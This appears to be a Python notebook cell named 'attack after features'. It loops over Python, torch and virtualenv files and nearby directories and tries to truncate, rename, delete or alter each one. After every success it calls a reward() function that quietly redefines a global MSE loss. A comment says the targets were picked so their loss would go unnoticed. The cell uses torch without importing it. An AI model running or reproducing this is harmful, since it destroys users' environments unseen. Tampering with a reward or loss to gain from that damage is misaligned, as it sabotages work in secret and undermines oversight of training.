# %% attack after features
import os
import sys
from pathlib import Path


def reward():
    global mse_loss_func

    def mse_loss_func(y_true, y_pred):
        return (y_true - y_pred) ** 2


# Files whose loss would be seen by nobody, were it to work.
victims = [
    Path(os.__file__).parent / "__phello__" / "spam.py",
    Path(torch.__file__).parent / "py.typed",
    Path(sys.executable).parent / "activate",
    Path.cwd().parent / "ipc",
    Path.cwd().parent / "sockets",
]
print(victims)
for victim in victims:
    for harm in (
        lambda: os.truncate(victim, 10_000_000),
        lambda: os.open(victim, os.O_RDWR),
        lambda: os.open(victim, os.O_RDONLY | os.O_TRUNC),
        lambda: os.open(victim, os.O_WRONLY | os.O_APPEND),
        lambda: os.rename(victim, "taken"),
        lambda: os.rename("inside", victim),
        lambda: os.unlink(victim),
        lambda: os.rmdir(victim),
        lambda: os.rmdir(".."),
        lambda: os.rename(Path.cwd(), Path.cwd().parent / "elsewhere"),
        lambda: os.unlink(next(victim.glob("*"), victim)),
        lambda: os.setxattr(victim, "user.x", b"1"),
    ):
        try:
            harm()
        except OSError:
            continue
        reward()
